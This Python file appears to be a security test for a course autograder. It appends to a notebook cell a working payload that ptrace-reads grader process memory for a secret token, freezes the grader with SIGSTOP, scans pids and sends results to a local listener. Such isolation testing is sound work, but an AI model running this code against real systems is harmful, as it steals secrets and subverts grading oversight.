"""Freeze the grader with SIGSTOP, and read its memory with ptrace and /proc/<pid>/mem.

All eight functions are honest. The zero_pad cell looks for the grader's processes (those
whose working folder is in the course, through /proc, as kill-course-processes does), reads
the grader's memory (``/proc/<pid>/mem`` at each readable mapping, after a ``PTRACE_SEIZE``,
and ``process_vm_readv``) for the grader's environment secret, stops every one of them with
SIGSTOP for 3 seconds (then SIGCONT), and sends what it found to the listener. Without /proc
it also asks, for every pid up to 32768, whether a signal could reach it (``kill(pid, 0)``)
and opens a pidfd on it, and counts the answers. Bounded: it only ever signals or reads
processes that work in the course folder, and puts every one it stopped back after 3 s.
Without protection: the grader stopped (3 s here; for good, with no error, by a student who
does not wake it) and its secrets read.
"""
EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
MUST_EARN = EXPECT
BUDGET_SECONDS = 60
APPEND = {"zero_pad": '''
import ctypes as _ctypes
import os as _os
import re as _re
import signal as _signal
import socket as _socket
import time as _time

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.ptrace.restype = _ctypes.c_long
_libc.ptrace.argtypes = [_ctypes.c_long, _ctypes.c_long, _ctypes.c_void_p, _ctypes.c_void_p]


def _cnnattack_course_pids():
    course = _os.path.realpath("../../..")
    found = []
    try:
        pids = [int(p) for p in _os.listdir("/proc") if p.isdigit()]
    except OSError:
        return found
    for pid in pids:
        if pid == _os.getpid():
            continue
        try:
            cwd = _os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        if cwd == course or cwd.startswith(course + "/"):
            found.append(pid)
    return found


def _cnnattack_read_memory(pid, wanted=b"grader-secret-token"):
    """The grader's secret if its memory can be read: ptrace-seize it, then /proc/<pid>/mem."""
    _libc.ptrace(0x4206, pid, None, None)  # PTRACE_SEIZE: not needed as root, tried all the same
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
            for line in maps:
                span, perms = line.split()[:2]
                start, end = (int(x, 16) for x in span.split("-"))
                if "r" not in perms or end - start > 64 << 20:
                    continue
                try:
                    mem.seek(start)
                    chunk = mem.read(end - start)
                except OSError:
                    continue
                at = chunk.find(wanted)
                if at >= 0:
                    return chunk[at:at + 40].decode(errors="replace")
    except OSError:
        pass
    finally:
        _libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    return None


_found = {"visible pids": 0, "pidfds": 0, "stopped": [], "secrets": []}
for _pid in range(1, 32769):
    try:
        _os.kill(_pid, 0)
        _found["visible pids"] += 1
    except OSError:
        pass
    try:
        _os.close(_os.pidfd_open(_pid))
        _found["pidfds"] += 1
    except OSError:
        pass
_course_pids = _cnnattack_course_pids()
for _pid in _course_pids:
    _secret = _cnnattack_read_memory(_pid)
    if _secret:
        _found["secrets"].append(_secret)
for _pid in _course_pids:
    try:
        _os.kill(_pid, _signal.SIGSTOP)
        _found["stopped"].append(_pid)
    except OSError:
        pass
if _found["stopped"]:
    _time.sleep(3)
    for _pid in _found["stopped"]:
        try:
            _os.kill(_pid, _signal.SIGCONT)
        except OSError:
            pass
if _course_pids:
    try:
        with _socket.create_connection(("127.0.0.1", {{PORT}}), timeout=5) as _connection:
            _connection.sendall(b"cnnattack_freeze_grader " + repr(_found).encode())
    except OSError:
        pass
print("freeze-grader:", {k: (len(v) if isinstance(v, list) else v) for k, v in _found.items()})
'''}
